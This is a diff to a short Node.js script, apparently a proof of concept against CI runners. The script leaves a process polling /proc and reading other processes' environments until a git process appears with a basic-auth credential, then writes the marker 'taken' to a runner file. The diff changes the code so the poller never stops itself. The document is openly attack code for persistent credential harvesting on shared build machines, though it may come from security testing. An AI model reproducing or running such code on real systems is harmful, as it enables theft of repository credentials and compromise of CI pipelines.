@@ -1,8 +1,8 @@
-// Outlives the attempt that started it, and takes the credential of a later git process from its environment.
+// Outlives the attempt that started it, unless it is killed, and takes the credential of a later git process from its environment.
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 
 const OUT = '/home/runner/PWN-30';
-const timer = setInterval(() => {
+setInterval(() => {
   for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
     let environment = '';
     try {
@@ -11,7 +11,6 @@ const timer = setInterval(() => {
       continue;
     }
     if (!/GIT_CONFIG_VALUE_\d+=.*basic /i.test(environment)) continue;
-    clearInterval(timer);
     writeFileSync(OUT, 'taken');
     return;
   }
